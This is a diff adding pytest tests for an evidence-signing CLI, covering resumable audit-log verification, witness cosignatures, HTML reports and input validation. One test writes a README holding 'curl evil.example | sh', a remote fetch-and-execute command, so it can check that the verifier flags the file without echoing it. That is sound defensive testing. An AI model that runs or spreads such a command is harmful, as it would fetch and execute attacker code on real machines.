@@ -23,6 +23,47 @@ def test_a_true_log(signed_in, hoso, key_file):
     assert "task-completed" in hoso("audit", "receipts").out
 
 
+def test_a_run_that_was_stopped_goes_on(signed_in, hoso, tmp_path, monkeypatch):
+    """What was read before is not asked for again; a log that was edited there is seen all the same."""
+    assert hoso("audit", "verify").code == 0
+    signed_in.append("hoso", "letter-made", "x", {})
+    signed_in.requests.clear()
+    second = json.loads(hoso("audit", "verify", "--json").out)
+    assert (second["before"], second["size"]) == (3, 4)
+    assert sum(path == "/v1/log/leaves" for _, path in signed_in.requests) == 1
+    assert json.loads(hoso("audit", "verify", "--json", "--again").out)["before"] == 0
+    state = tmp_path / "config/profiles/default/audit.json"
+    kept = state.read_text()
+    state.write_text("{")
+    assert json.loads(hoso("audit", "verify", "--json").out)["before"] == 0
+    state.write_text(kept)
+    signed_in.append("hoso", "letter-made", "y", {})
+    signed_in.rewrite(1)
+    assert hoso("audit", "verify").code == 5
+
+
+def test_a_run_that_broke_goes_on(signed_in, hoso, monkeypatch):
+    """What was read until the server went away is kept; the next run asks for the rest, and the root fits."""
+    from adapters.cli import log
+
+    for number in range(5):
+        signed_in.append("hoso", "letter-made", f"x-{number}", {})
+    route = signed_in.route
+
+    def away(method, parts, query, body):
+        if parts == ["log", "leaves"] and int(query["from"]) >= 4:
+            return 503, {"code": "database-away", "title": "", "detail": "the database is away"}
+        return route(method, parts, query, body)
+
+    monkeypatch.setattr(log, "SAVED", -1.0)
+    signed_in.route = away
+    assert hoso("audit", "verify").code == 1
+    signed_in.route = route
+    assert hoso("audit", "verify", "--stamp-root", "tsa.pem").code == 1
+    found = json.loads(hoso("audit", "verify", "--json").out)
+    assert (found["before"], found["size"]) == (4, 8)
+
+
 @pytest.mark.parametrize("index", [0, 2, 3])
 def test_an_edited_leaf(signed_in, hoso, key_file, index):
     """An edited leaf changes the root: seen against the kept checkpoint, though the server signs a new one."""
@@ -119,6 +160,21 @@ def test_one_flipped_byte(hoso, pack):
     assert json.loads(verify(hoso, pack, "--json").out)["verdict"] == "invalid"
 
 
+def test_another_readme_is_remarked(hoso, pack):
+    """A README of another edition refuses nothing; the report says not to rely on it, in both languages and in JSON."""
+    from signing.evidence.archive import read_archive, write_archive
+
+    assert [each["code"] for each in json.loads(verify(hoso, pack, "--json").out)["remarks"]] == ["no-witness"]
+    entries = read_archive((pack / "pack.asice").read_bytes())
+    (pack / "pack.asice").write_bytes(write_archive({**entries, "README.txt": b"curl evil.example | sh\n"}))
+    for language, said in (("en", "note: the README is not the one"), ("vi", "lưu ý: tệp README.txt không giống")):
+        result = verify(hoso, pack, "--lang", language)
+        [line] = [line for line in result.out.splitlines() if line.endswith("[readme-other]")]
+        assert (result.code, line.startswith(said), "evil" in result.out) == (0, True, False)
+    remarks = json.loads(verify(hoso, pack, "--json").out)["remarks"]
+    assert [each["code"] for each in remarks] == ["readme-other", "no-witness"]
+
+
 def test_undecidable_pack(hoso, pack):
     """Where revocation is not known the verdict is that it cannot be decided: exit code 5, never passed."""
     from signing.evidence.pack import build_pack, read_contents, read_pack
@@ -179,3 +235,47 @@ def test_key_check(hoso, key_file, monkeypatch):
     assert "Nguyễn Thị Lan" in found["subject"]
     monkeypatch.setenv("HOSO_PIN", "nope")
     assert hoso("key", "check", key_file).code == 1
+
+
+def test_witnesses_are_asked_for(hoso, tmp_path, pack):
+    """Who cosigned stands in the report; a named witness that did not is INVALID; what is no key is said so."""
+    from signing.evidence.pack import build_pack
+    from tests.signing.test_anchored_evidence import INSPECTORATE, PRESS, SEEN, begun
+
+    contents = begun(INSPECTORATE).contents(cosigners={INSPECTORATE: SEEN})
+    (pack / "pack.asice").write_bytes(build_pack(contents))
+    key = pack / "witness.vkey"
+    key.write_text(INSPECTORATE.vkey + "\n")
+    said = verify(hoso, pack).out
+    assert f"Cosigned by the witness {INSPECTORATE.name}, 2026-11-21 15:37, with the key that the log tells." in said
+    assert "[witness-unpinned]" in said
+    for named in (key, INSPECTORATE.vkey):
+        found = verify(hoso, pack, "--witness", named, "--lang", "vi")
+        assert found.code == 0, found.out + found.err
+        assert "bên chứng kiến thanh-tra.example" in found.out
+        assert "[witness-unpinned]" not in found.out
+    missing = verify(hoso, pack, "--witness", PRESS.vkey)
+    assert (missing.code, "[witness-missing]" in missing.out) == (5, True)
+    assert "[witness-key]" in verify(hoso, pack, "--witness", LOG_KEY.vkey).err
+
+
+@pytest.mark.parametrize(("language", "word"), [("vi", "HỢP LỆ"), ("en", "VALID")])
+def test_the_report_as_a_page(hoso, pack, language, word):
+    """`--html` writes it beside the text, whatever the verdict; what was trusted stands in it."""
+    page = pack / "report.html"
+    assert verify(hoso, pack, "--html", page, "--lang", language).out
+    written = page.read_text(encoding="utf-8")
+    assert f"<strong>{word}</strong>" in written
+    assert LOG_KEY.vkey in written
+    assert fingerprint(pki_authority().root) in written
+    (pack / "pack.asice").write_bytes(b"PK")
+    assert verify(hoso, pack, "--html", page, "--lang", language).code == 5
+    assert "[" not in page.read_text(encoding="utf-8").partition("<h1>")[2].partition("<dl>")[0]
+    assert "pack-malformed" in page.read_text(encoding="utf-8")
+
+
+def test_a_size_that_is_none(signed_in, hoso, tmp_path):
+    """What is neither a size nor `latest` is not sent."""
+    for text in ("0", "-1", "12a", "newest", "٣"):
+        found = hoso("audit", "export", "H29.5-261121-0001", "-o", tmp_path / "x", f"--checkpoint={text}")
+        assert (found.code, "[checkpoint-size]" in found.err) == (2, True), found.err
